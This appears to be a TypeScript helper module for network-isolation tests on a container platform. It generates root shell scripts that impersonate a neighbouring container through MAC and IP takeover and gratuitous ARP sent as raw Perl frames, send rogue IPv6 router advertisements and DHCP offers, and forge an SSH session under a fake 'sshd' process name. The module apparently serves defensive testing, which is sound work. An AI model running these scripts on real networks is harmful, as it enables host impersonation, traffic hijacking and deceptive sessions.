/**
 * What a hostile student runs as root in their container to impersonate a neighbour, written
 * for the tools every Debian base has (ip, perl-base): raw Ethernet frames through AF_PACKET,
 * so no arping or scapy is needed. Each returns a shell script for `sh -c`.
 */

/** A Perl one-shot that sends raw frames (hex strings) out of eth0. */
const SEND_FRAMES = String.raw`
use Socket;
my $if = "eth0";
open(my $fh, "<", "/sys/class/net/$if/ifindex") or die "ifindex: $!";
my $ifindex = <$fh>; chomp $ifindex;
socket(my $s, 17, SOCK_RAW, 0) or die "socket: $!";
for my $hex (@ARGV) {
  my $frame = pack("H*", $hex);
  my $sll = pack("S n i S C C a8", 17, unpack("n", substr($frame, 12, 2)), $ifindex, 1, 0, 6, substr($frame, 0, 6));
  defined(send($s, $frame, 0, $sll)) or die "send: $!";
}
`;

const hexMac = (mac: string) => mac.replace(/:/g, '');
const hexIp = (ip: string) => ip.split('.').map((o) => Number(o).toString(16).padStart(2, '0')).join('');

/** An ARP reply (op 2, or request op 1) from `senderMac`/`senderIp` to `targetMac`/`targetIp`, Ethernet source `etherSrc`. */
export function arpFrame(o: { etherSrc: string; etherDst: string; op: 1 | 2; senderMac: string; senderIp: string; targetMac: string; targetIp: string }): string {
  return hexMac(o.etherDst) + hexMac(o.etherSrc) + '0806' + '000108000604' + '000' + String(o.op) + hexMac(o.senderMac) + hexIp(o.senderIp) + hexMac(o.targetMac) + hexIp(o.targetIp);
}

/** A minimal IPv6 frame (router advertisement, ICMPv6 type 134) from `etherSrc`: its content does not matter to a guard that drops IPv6. */
export function ipv6RouterAdvertFrame(etherSrc: string): string {
  const payload = '86000000' + '40000708' + '00000000' + '00000000'; // type 134, code 0, checksum 0, hop limit 64, M/O, lifetime 1800
  return '333300000001' + hexMac(etherSrc) + '86dd' + '60000000' + (payload.length / 2).toString(16).padStart(4, '0') + '3aff' + 'fe800000000000000000000000000001' + 'ff020000000000000000000000000001' + payload;
}

export function sendFramesScript(frames: string[]): string {
  return `perl -e '${SEND_FRAMES.replace(/'/g, `'\\''`)}' ${frames.join(' ')}`;
}

/**
 * Take over a neighbour's identity: its MAC on eth0, its address instead of ours, then
 * gratuitous ARP (request and reply) and TCP/UDP datagrams from it to `host` (the hypervisor).
 * The shell exits 0 whatever happens to the datagrams.
 */
export function impersonateScript(o: { victimIp: string; /** the MAC to send from: the victim's, or our own */ victimMac: string; prefixLength: number; host: string; hostMac: string }): string {
  const garpRequest = arpFrame({ etherSrc: o.victimMac, etherDst: 'ff:ff:ff:ff:ff:ff', op: 1, senderMac: o.victimMac, senderIp: o.victimIp, targetMac: '00:00:00:00:00:00', targetIp: o.victimIp });
  const arpReply = arpFrame({ etherSrc: o.victimMac, etherDst: o.hostMac, op: 2, senderMac: o.victimMac, senderIp: o.victimIp, targetMac: o.hostMac, targetIp: o.host });
  return [
    'ip link set eth0 down',
    `ip link set eth0 address ${o.victimMac}`,
    'ip link set eth0 up',
    'ip -4 addr flush dev eth0',
    `ip addr add ${o.victimIp}/${o.prefixLength} dev eth0`,
    `ip route replace default via ${o.host} src ${o.victimIp} || true`,
    `for i in 1 2 3; do ${sendFramesScript([garpRequest, arpReply])}; done`,
    // IP from the stolen address: the kernel ARPs for the host with the stolen address as sender.
    `perl -MSocket -e 'socket(my $u, PF_INET, SOCK_DGRAM, 0); for (1..3) { send($u, "x", 0, pack_sockaddr_in(9, inet_aton("${o.host}"))) } socket(my $t, PF_INET, SOCK_STREAM, 0); connect($t, pack_sockaddr_in(22, inet_aton("${o.host}")));' &`,
    'sleep 2',
    'exit 0',
  ].join('\n');
}

/** A DHCP server's answer (UDP 67 -> 68, broadcast) from this container's own address. */
export const DHCP_OFFER_SCRIPT = `perl -MSocket -e 'socket(my $u, PF_INET, SOCK_DGRAM, 0) or die; setsockopt($u, SOL_SOCKET, SO_BROADCAST, 1); bind($u, pack_sockaddr_in(67, INADDR_ANY)) or die "bind: $!"; send($u, "\\x02" . ("\\0" x 239), 0, pack_sockaddr_in(68, inet_aton("255.255.255.255"))) or die "send: $!"'`;

/**
 * A fake session: the gateway's address on our own loopback, and a TCP connection from it to
 * our own sshd, plus a process titled like an ssh session. Holds both for `seconds`.
 */
export function forgedSessionScript(o: { gatewayIp: string; ownIp: string; seconds: number }): string {
  return [
    `ip addr add ${o.gatewayIp}/32 dev lo 2>/dev/null || true`,
    `setsid perl -MSocket -e '$0 = "sshd: root\\@notty"; socket(my $t, PF_INET, SOCK_STREAM, 0) or die; bind($t, pack_sockaddr_in(0, inet_aton("${o.gatewayIp}"))) or die "bind: $!"; connect($t, pack_sockaddr_in(22, inet_aton("${o.ownIp}"))) or die "connect: $!"; sleep ${o.seconds}' >/dev/null 2>&1 < /dev/null &`,
    // Ready once the forged connection shows in our own socket table.
    `for i in $(seq 1 50); do ss -Htn state established "( dport = :22 and src ${o.gatewayIp} )" | grep -q . && exit 0; sleep 0.1; done; echo "no forged connection" >&2; exit 1`,
  ].join('\n');
}
